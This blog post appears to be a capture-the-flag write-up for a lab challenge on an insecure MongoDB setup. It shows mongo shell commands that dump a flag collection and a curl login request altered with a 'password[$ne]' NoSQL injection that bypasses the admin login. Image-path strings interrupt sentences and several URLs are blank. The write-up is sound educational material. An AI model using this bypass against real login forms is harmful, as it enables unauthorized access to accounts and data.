AoC3#07: Migration Without Security

We’re now on the last web exploitation task for the advent of cyber challenge, Day 7, Migration Without Security. So far I’ve written up:

  • Days 1-5 which were a walk in the park. Very basic web exploitation stuff.
  • Day 6, noticeable harder and a lot more fun. This daily challenge implemented local file inclusion (LFI), remote code execution (RCE) and log poisoning

Day 7 Migration Without Security

This challenge focuses heavily on MongoDB server, a NoSQL DBMS I don’t have a massive amount of knowledge of. Thankfully the concepts andtheory of SQL injection copy across to all DBMS, afaik.

We’re told up in the story to ssh in with thm:tryhackme, which I glossed over and got royally confused. Anyway, once you’re SSH’d into the box, access Mongo DB using mongo.

Then simply dumping out the collection gives up the first flag.

> show databases
admin   0.000GB
config  0.000GB
flagdb  0.000GB
local   0.000GB

> use flagdbswitched to db flagdb

> show collections

> db.flagColl.find()
{ "_id" : ObjectId("618806af0a...bdf42bd6a"), "flag" : "THM{8814a5e...9d944f9}" }


I then opened up the webpage and dump in some junk credentials. Needless to say they failed but I grabbed the request from the browser and copied it out, in curl format.

curl '' -H 'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0' -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8' -H 'Accept-Language: en-US,en;q=0.5' --compressed -H 'Content-Type: application/x-www-form-urlencoded' -H 'Origin:' -H 'Connection: keep-alive' -H 'Referer:' -H 'Cookie: connect.sid=s%3ACft6JjQFYCfFomIvvfP-meNcqCWB8sgo.KQios7SDLz%2FL7w6nQGdeiK%2FEFu0Eyg7pi%2FT4aJIj%2FtU' -H'Upgrade-Insecure-Requests: 1' --data-raw 'username=user1&password=pass1'

I then changed the final part of the request to read:

 --data-raw 'username=admin&password[$ne]=pass1'

And I got a direction message back from the server. It worked!

As my browser has the same session cookie value, I then went to the homepage again and got redirected back to logged in dashboard page.

I then clicked the link to grab the 1st flag for this challenge.

I then used a similar method to dump out the usernames with the role of guest. The URL variables can be easily manipulated in the browser, to something like:


Asimilar modification gives up the third flag too:


Scroll down through (presumably) all the usernamerecords. McSkidy is buried in that list somewhere.

That completes Day 7 – relatively easyto be honest – but an important SQLipremise for a DB I know little about.

The writeup for Day 8 is now done – showing awhole day of PowerShell log analysis on acompromised Window’s box

Leave a ReplyYour email address will not be published. Required fields are marked *